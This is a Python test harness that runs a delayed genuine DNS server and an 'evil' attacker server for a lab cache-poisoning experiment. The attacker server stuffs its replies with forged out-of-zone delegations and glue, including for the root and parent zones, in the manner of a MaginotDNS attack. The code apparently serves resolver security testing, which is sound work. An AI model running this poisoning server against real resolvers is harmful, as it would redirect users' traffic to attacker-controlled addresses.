#!/usr/bin/python3
"""Authoritative servers the attack harness runs itself (dnspython).

  slow  --addr A --zone Z --delay MS
        the genuine server of the attacked zone: apex SOA/NS, ns.Z A its own
        address, any other name A 192.0.2.1, other types NODATA; every reply
        (UDP and TCP) goes out after --delay ms. Counts what it did.

  evil  --bind ROLE=ADDR ... (roles: nsfake, delegated, forwarded)
        the attacker's servers. 'nsfake' is where the forged glue points: no
        honest resolver should ever ask it anything; it answers every A
        question with 10.66.6.6. 'delegated' serves --delegated-zone (a zone
        the lab delegates to it) and 'forwarded' serves --forwarded-zone (a
        forward-zone target); both answer their own names with 192.0.2.99
        and stuff every reply with records for other zones (MaginotDNS).

Both write their counters and a list of the queries they received as JSON to
--state when they get SIGTERM.
"""

import argparse
import json
import os
import signal
import socket
import struct
import sys
import threading
import time

import dns.flags
import dns.message
import dns.name
import dns.rcode
import dns.rdatatype
import dns.rrset

EVIL_A = "10.66.6.6"
EVIL_NS = "127.66.0.1"
OWN_A = "192.0.2.99"
TTL = 86400


class State:
    def __init__(self, path):
        self.path = path
        self.lock = threading.Lock()
        self.counters = {}
        self.queries = []

    def count(self, key, n=1):
        with self.lock:
            self.counters[key] = self.counters.get(key, 0) + n

    def query(self, role, qname, qtype, tcp):
        with self.lock:
            if len(self.queries) < 10000:
                self.queries.append({"role": role, "qname": qname.lower(),
                                     "qtype": qtype, "tcp": tcp,
                                     "t": round(time.time(), 3)})

    def dump(self):
        with self.lock:
            data = {"counters": dict(self.counters), "queries": list(self.queries)}
        with open(self.path + ".tmp", "w") as f:
            json.dump(data, f)
        os.replace(self.path + ".tmp", self.path)


def rr(name, rtype, *rdata):
    return dns.rrset.from_text_list(name, TTL, "IN", rtype, list(rdata))


class Slow:
    def __init__(self, zone, addr, delay):
        self.zone = dns.name.from_text(zone)
        self.addr = addr
        self.delay = delay

    def answer(self, q):
        r = dns.message.make_response(q)
        if not q.question:
            r.set_rcode(dns.rcode.FORMERR)
            return r
        qq = q.question[0]
        if not qq.name.is_subdomain(self.zone):
            r.set_rcode(dns.rcode.REFUSED)
            return r
        r.flags |= dns.flags.AA
        z = self.zone
        ns = dns.name.from_text("ns", z)
        soa = rr(z, "SOA", "%s hostmaster.%s 1 1800 900 604800 300" % (ns, z))
        if qq.name == z and qq.rdtype == dns.rdatatype.NS:
            r.answer.append(rr(qq.name, "NS", ns.to_text()))
            r.additional.append(rr(ns, "A", self.addr))
        elif qq.name == z and qq.rdtype == dns.rdatatype.SOA:
            r.answer.append(soa)
        elif qq.name != z and qq.rdtype == dns.rdatatype.A:
            r.answer.append(rr(qq.name, "A", self.addr if qq.name == ns else "192.0.2.1"))
        else:
            r.authority.append(soa)
        return r


class Evil:
    def __init__(self, zones):
        self.zones = {role: dns.name.from_text(z) for role, z in zones.items()}

    def answer(self, q, role):
        r = dns.message.make_response(q)
        if not q.question:
            r.set_rcode(dns.rcode.FORMERR)
            return r
        qq = q.question[0]
        r.flags |= dns.flags.AA
        zone = self.zones.get(role)
        if zone is None or not qq.name.is_subdomain(zone):
            # nsfake, or a question for a zone that is not ours: someone
            # followed an injected delegation. Answer as the "owner".
            if qq.rdtype == dns.rdatatype.A:
                r.answer.append(rr(qq.name, "A", EVIL_A))
            return r
        own_ns = dns.name.from_text("ns", zone)
        first = qq.name.labels[0].lower() if qq.name != zone else b""
        if qq.rdtype == dns.rdatatype.A and first.startswith(b"c"):
            # CNAME out of our zone, with the target's "data" attached
            r.answer.append(rr(qq.name, "CNAME", "www.alpha.lab."))
            r.answer.append(rr("www.alpha.lab.", "A", EVIL_A))
        elif qq.rdtype == dns.rdatatype.A:
            r.answer.append(rr(qq.name, "A", OWN_A))
            r.answer.append(rr("www.alpha.lab.", "A", EVIL_A))
        # Injected delegations: the victim zones' real NS names with our
        # address as their glue, and our own name as an extra NS.
        r.authority.append(rr("alpha.lab.", "NS", "ns1.alpha.lab.", own_ns.to_text()))
        r.authority.append(rr("lab.", "NS", "ns1.nic.lab.", own_ns.to_text()))
        r.authority.append(rr(".", "NS", "a.root.lab.", own_ns.to_text()))
        r.authority.append(rr("slow.lab.", "NS", "ns.slow.lab.", own_ns.to_text()))
        for name in ("ns1.alpha.lab.", "ns1.nic.lab.", "a.root.lab.", "ns.slow.lab.",
                     own_ns.to_text()):
            r.additional.append(rr(name, "A", EVIL_NS))
        r.additional.append(rr("www.alpha.lab.", "A", EVIL_A))
        r.additional.append(rr("www.slow.lab.", "A", EVIL_A))
        return r


def serve(state, role, addr, handler, delay):
    """UDP and TCP on ADDR:53, replies from handler(query) after delay s."""
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    u.bind((addr, 53))
    t = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    t.bind((addr, 53))
    t.listen(64)

    def reply(wire, tcp):
        try:
            q = dns.message.from_wire(wire)
        except Exception:
            state.count("%s.bad_queries" % role)
            return None
        if q.question:
            state.query(role, q.question[0].name.to_text(),
                        dns.rdatatype.to_text(q.question[0].rdtype), tcp)
        state.count("%s.queries.%s" % (role, "tcp" if tcp else "udp"))
        r = handler(q)
        return r.to_wire(max_size=65535 if tcp else 1232)

    def udp_loop():
        while True:
            wire, peer = u.recvfrom(65535)
            out = reply(wire, False)
            if out is None:
                continue
            if delay:
                threading.Timer(delay, send_later, (out, peer, role)).start()
            else:
                u.sendto(out, peer)
                state.count("%s.replies.udp" % role)

    def send_later(out, peer, role_):
        try:
            u.sendto(out, peer)
            state.count("%s.replies.udp" % role_)
        except OSError:
            pass

    def tcp_conn(c):
        with c:
            c.settimeout(10)
            try:
                while True:
                    hdr = recv_exact(c, 2)
                    if hdr is None:
                        return
                    wire = recv_exact(c, struct.unpack("!H", hdr)[0])
                    if wire is None:
                        return
                    out = reply(wire, True)
                    if out is None:
                        return
                    if delay:
                        time.sleep(delay)
                    c.sendall(struct.pack("!H", len(out)) + out)
                    state.count("%s.replies.tcp" % role)
            except OSError:
                return

    def tcp_loop():
        while True:
            c, _ = t.accept()
            threading.Thread(target=tcp_conn, args=(c,), daemon=True).start()

    threading.Thread(target=udp_loop, daemon=True).start()
    threading.Thread(target=tcp_loop, daemon=True).start()


def recv_exact(c, n):
    b = b""
    while len(b) < n:
        chunk = c.recv(n - len(b))
        if not chunk:
            return None
        b += chunk
    return b


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("kind", choices=("slow", "evil"))
    ap.add_argument("--addr")
    ap.add_argument("--zone")
    ap.add_argument("--delay", type=float, default=500)
    ap.add_argument("--bind", action="append", default=[])
    ap.add_argument("--delegated-zone", default="dead.lab.")
    ap.add_argument("--forwarded-zone", default="attacker.lab.")
    ap.add_argument("--state", required=True)
    ap.add_argument("--ready", required=True)
    a = ap.parse_args()
    state = State(a.state)
    if a.kind == "slow":
        slow = Slow(a.zone, a.addr, a.delay)
        serve(state, "slow", a.addr, slow.answer, a.delay / 1000.0)
    else:
        evil = Evil({"delegated": a.delegated_zone, "forwarded": a.forwarded_zone})
        for b in a.bind:
            role, addr = b.split("=", 1)
            serve(state, role, addr, lambda q, r=role: evil.answer(q, r), 0)
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    signal.signal(signal.SIGINT, lambda *_: stop.set())
    state.dump()
    open(a.ready, "w").close()
    while not stop.wait(0.2):
        state.dump()
    state.dump()
    return 0


if __name__ == "__main__":
    sys.exit(main())
